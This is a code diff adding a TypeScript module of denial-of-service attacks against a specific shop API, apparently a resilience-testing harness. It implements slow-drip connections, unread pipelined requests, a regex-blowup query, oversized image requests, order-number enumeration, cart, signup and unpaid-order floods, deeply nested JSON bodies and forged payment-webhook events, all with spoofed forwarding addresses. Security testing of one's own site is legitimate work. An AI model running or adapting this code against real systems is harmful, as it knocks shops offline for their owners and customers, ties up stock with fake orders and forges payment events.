@@ -1,0 +1,164 @@
+import net from 'node:net'
+import { setTimeout as pause } from 'node:timers/promises'
+
+const BASE = '/shop/api/v1'
+/** Between two bytes of a client that takes its time, in ms. */
+const DRIP_MS = 500
+
+/** What a hostile client works with. */
+interface Client {
+  origin: string
+  /** The address that a proxy would say it comes from. */
+  address: string
+  signal: AbortSignal
+}
+
+/** One way to take a shop away from others. */
+export interface Kind {
+  name: string
+  /** What one client does until its signal aborts; resolves then. */
+  run(client: Client): Promise<void>
+}
+
+/** Does it again and again, whatever comes of it. */
+const overAndOver =
+  (ask: (client: Client) => Promise<unknown>) =>
+  async (client: Client): Promise<void> => {
+    while (!client.signal.aborted) {
+      // A refusal, a broken connection and the end of the time are what it came for.
+      await ask(client).catch(() => pause(50))
+    }
+  }
+
+const request = async ({ origin, address, signal }: Client, method: string, path: string, body?: string) => {
+  const response = await fetch(origin + path, {
+    method,
+    signal,
+    headers: {
+      'x-forwarded-for': address,
+      ...(body !== undefined && { 'content-type': 'application/json' }),
+    },
+    ...(body !== undefined && { body }),
+  })
+  return response.text()
+}
+
+const get = (path: () => string) => overAndOver((client) => request(client, 'GET', path()))
+const post = (path: string, body: () => unknown) =>
+  overAndOver((client) => request(client, 'POST', BASE + path, JSON.stringify(body())))
+
+/** A connection that sends `start`, then a little every half a second, and reads only if told to. */
+const drip = (start: (host: string) => string, more: string, reads: boolean) =>
+  overAndOver(
+    ({ origin, signal }) =>
+      new Promise<void>((resolve, reject) => {
+        const { hostname, port, host } = new URL(origin)
+        const socket = net.connect(Number(port), hostname, () => socket.write(start(host)))
+        const timer = setInterval(() => socket.write(more), DRIP_MS)
+        const end = () => {
+          clearInterval(timer)
+          socket.destroy()
+          signal.removeEventListener('abort', end)
+        }
+        signal.addEventListener('abort', end)
+        if (reads) socket.resume()
+        else socket.pause()
+        socket.on('error', reject)
+        socket.on('close', () => {
+          end()
+          resolve()
+        })
+      }),
+  )
+
+let counter = 0
+const next = () => (counter += 1)
+
+const EMAIL = () => `visitor${next()}@example.co.za`
+
+/** Fills a cart and orders by EFT, each time as somebody else. */
+const orderByEft = overAndOver(async (client) => {
+  const { id } = JSON.parse(await request(client, 'POST', `${BASE}/carts/`, '{"source":"shop"}')) as {
+    id: string
+  }
+  const items = JSON.stringify({ items: [{ item_id: 'khumo-print', quantity: 10 }] })
+  await request(client, 'POST', `${BASE}/carts/${id}/bulk_add/`, items)
+  const phone = `0${820_000_000 + next()}`
+  const contact_info = { first_name: 'T', last_name: 'N', email: EMAIL(), phone }
+  const address = {
+    street: `${next()} Long Street`,
+    suburb: 'M',
+    city: 'J',
+    province: 'Gauteng',
+    postal_code: '2092',
+  }
+  await request(client, 'PATCH', `${BASE}/carts/${id}/`, JSON.stringify({ contact_info, address }))
+  await request(client, 'POST', `${BASE}/carts/${id}/eft_intent/`, '{}')
+})
+
+const STARS = `${'*a'.repeat(12)}*b`
+
+/** Every kind of attack that the site was found weak against, and those that every site meets. */
+export const KINDS: readonly Kind[] = [
+  {
+    name: 'headers that never end',
+    run: drip((host) => `GET /za/ HTTP/1.1\r\nHost: ${host}\r\n`, 'X-A: b\r\n', true),
+  },
+  {
+    name: 'bodies that never end',
+    run: drip(
+      (host) =>
+        `POST ${BASE}/carts/ HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
+      ' ',
+      true,
+    ),
+  },
+  {
+    name: 'pages asked for and not read',
+    run: drip((host) => `GET /za/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(50), '\r\n', false),
+  },
+  {
+    name: 'patterns full of stars',
+    run: get(() => `/v2/cdn/stories?token=demo&by_slugs=${STARS}&per_page=100`),
+  },
+  {
+    name: 'large pictures',
+    run: overAndOver(async (client) => {
+      const home = await request(client, 'GET', '/za/')
+      const [picture = ''] = /\/f\/\d+\/\d+x\d+\/[\da-f]+\/[\w.-]+/.exec(home) ?? []
+      const side = 3_000 + (next() % 1_000)
+      await request(client, 'GET', `${picture}/m/${side}x${side}/filters:format(avif)`)
+    }),
+  },
+  {
+    name: 'order numbers tried',
+    run: post('/orders/lookup/', () => ({ number: `ZA${10_000_000 + next()}`, email: EMAIL() })),
+  },
+  { name: 'carts without end', run: post('/carts/', () => ({ source: 'shop' })) },
+  {
+    name: 'signups without end',
+    run: post('/signups/', () => ({ owner_first_name: 'T', owner_last_name: 'N', email: EMAIL() })),
+  },
+  { name: 'goods ordered and not paid', run: orderByEft },
+  {
+    name: 'bodies nested deep',
+    run: overAndOver((client) =>
+      request(
+        client,
+        'POST',
+        `${BASE}/carts/`,
+        `{"source":"shop","x":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
+      ),
+    ),
+  },
+  {
+    name: 'long lists of items',
+    run: post('/carts/00000000-0000-4000-8000-000000000000/bulk_add/', () => ({
+      items: Array.from({ length: 2_000 }, () => ({ item_id: 'khumo' })),
+    })),
+  },
+  {
+    name: 'forged events of payment',
+    run: post('/webhooks/checkout/', () => ({ id: next(), type: 'payment_approved' })),
+  },
+]
